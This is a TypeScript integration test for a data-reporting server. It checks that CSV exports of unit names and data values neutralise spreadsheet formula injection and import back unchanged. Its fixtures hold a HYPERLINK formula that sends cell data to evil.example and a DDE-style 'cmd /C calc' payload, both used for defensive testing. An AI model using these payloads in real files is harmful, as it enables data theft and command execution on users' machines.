/**
 * Safe exports, end to end: the units CSV and the dataValueSets CSV hold text that a spreadsheet would run as a
 * formula (a unit name "=HYPERLINK(…)", a comment "-chú thích", a text value "@SUM(…)"), and a negative figure.
 * No exported cell starts a formula, the figure stays a plain number, and importing the files back gives the same values.
 */
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loginAs, TEST_ADMIN_PASSWORD, type TestServer, testServer } from '../../test/server.js';
import { openRound, PROVINCE, seedUsers, storedValue, type UserKey } from './test-fixtures.js';

let s: TestServer;
let admin: { cookie: string };
let users: Record<UserKey, { cookie: string }>;

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
const NAMES: Record<string, string> = {
  XA_F1: HYPERLINK,
  XA_F2: '-Xã thử nghiệm',
  XA_F3: '+84 Xã Điện Thoại',
  XA_F4: '@Xã A',
  XA_F5: "'=Xã có dấu nháy",
};
const ORIGINAL = [
  { dataElement: 'GHICHU', period: '2024Q1', orgUnit: 'DH', value: '@SUM(1+1)*cmd|\' /C calc\'!A0', comment: '-chú thích' },
  { dataElement: 'DOANHTHU', period: '2024Q1', orgUnit: 'DH', value: '-2500.75', comment: '=1+1' },
  { dataElement: 'BTS', period: '2024Q1', orgUnit: 'DH', value: '45', comment: '+3 trạm mới' },
];

/** Every cell of a CSV text, parsed as a spreadsheet program would split it. */
const cells = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.flat();
const startsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);

beforeAll(async () => {
  s = await testServer({ now: '2024-05-10T02:00:00Z' });
  admin = await loginAs(s.app, 'admin', TEST_ADMIN_PASSWORD);
  const units = [...PROVINCE.organisationUnits, ...Object.entries(NAMES).map(([code, name]) => ({ code, name, type: 'commune', parent: 'AT' }))];
  const r = await s.app.inject({ method: 'POST', url: '/api/metadata', headers: admin, payload: { ...PROVINCE, organisationUnits: units } });
  expect(r.statusCode, r.body).toBe(200);
  users = await seedUsers(s.app, s.db);
  await openRound(s.db, 'BC_Q', '2024Q1', '2024-01-01', '2024-03-31');
});
afterAll(() => s.close());

describe('units CSV', () => {
  it('neutralises formula-like names and imports them back unchanged', async () => {
    const exp = await s.app.inject({ url: '/api/org-units/export.csv', headers: admin });
    expect(exp.statusCode).toBe(200);
    expect(exp.body).toContain(`XA_F1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")",commune,AT`);
    expect(exp.body).toContain(`XA_F5,"''=Xã có dấu nháy",commune,AT`);
    expect(cells(exp.body).filter(startsFormula)).toEqual([]);

    // Change every such name, then import the export: the names come back exactly.
    await s.db.query(`UPDATE org_units SET name = 'Tạm ' || code WHERE code LIKE 'XA\\_F%'`);
    const back = await s.app.inject({ method: 'POST', url: '/api/org-units/import', headers: { ...admin, 'content-type': 'text/csv' }, payload: exp.body });
    expect(back.statusCode, back.body).toBe(200);
    expect(back.json()).toMatchObject({ created: 0, updated: Object.keys(NAMES).length, errors: [] });
    const rows = await s.db.query<{ code: string; name: string }>(`SELECT code, name FROM org_units WHERE code LIKE 'XA\\_F%' ORDER BY code`);
    expect(Object.fromEntries(rows.map((r) => [r.code, r.name]))).toEqual(NAMES);

    // A second import of the same file changes nothing.
    const again = await s.app.inject({ method: 'POST', url: '/api/org-units/import?dryRun=true', headers: { ...admin, 'content-type': 'text/csv' }, payload: exp.body });
    expect(again.json()).toMatchObject({ created: 0, updated: 0, errors: [] });
  });
});

describe('dataValueSets CSV', () => {
  it('neutralises text values and comments, keeps a negative figure a number, and imports back the same values', async () => {
    const put = await s.app.inject({ method: 'POST', url: '/api/dataValueSets', headers: users.repDH, payload: { dataValues: ORIGINAL } });
    expect(put.statusCode, put.body).toBe(200);
    expect(put.json().conflicts).toEqual([]);

    const exp = await s.app.inject({ url: '/api/dataValueSets.csv?dataSet=BC_Q&period=2024Q1&orgUnit=DH', headers: users.repDH });
    expect(exp.statusCode).toBe(200);
    const lines = exp.body.trim().split('\r\n');
    expect(lines.find((l) => l.startsWith('DOANHTHU,'))).toMatch(/^DOANHTHU,2024Q1,DH,-2500\.75,"'=1\+1",/);
    expect(lines.find((l) => l.startsWith('GHICHU,'))).toMatch(/^GHICHU,2024Q1,DH,"'@SUM\(1\+1\)\*cmd\|' \/C calc'!A0","'-chú thích",/);
    expect(lines.find((l) => l.startsWith('BTS,'))).toMatch(/^BTS,2024Q1,DH,45,"'\+3 trạm mới",/);
    expect(cells(exp.body).filter(startsFormula)).toEqual([]);

    // Overwrite the values, import the exported CSV: the originals are back.
    const other = ORIGINAL.map((v) => ({ ...v, value: v.dataElement === 'GHICHU' ? 'khác' : '7', comment: 'khác' }));
    expect((await s.app.inject({ method: 'POST', url: '/api/dataValueSets', headers: users.repDH, payload: { dataValues: other } })).statusCode).toBe(200);
    const back = await s.app.inject({ method: 'POST', url: '/api/dataValueSets', headers: { ...users.repDH, 'content-type': 'text/csv' }, payload: exp.body });
    expect(back.statusCode, back.body).toBe(200);
    expect(back.json()).toMatchObject({ status: 'SUCCESS', importCount: { imported: 0, updated: 3 }, conflicts: [] });
    for (const v of ORIGINAL) {
      const stored = await storedValue(s.db, v.dataElement, v.orgUnit, v.period);
      expect({ value: stored?.value, comment: stored?.comment }, v.dataElement).toEqual({ value: v.value, comment: v.comment });
    }
    const again = await s.app.inject({ method: 'POST', url: '/api/dataValueSets?dryRun=true', headers: { ...users.repDH, 'content-type': 'text/csv' }, payload: exp.body });
    expect(again.json().importCount).toMatchObject({ imported: 0, updated: 0 });
  });
});
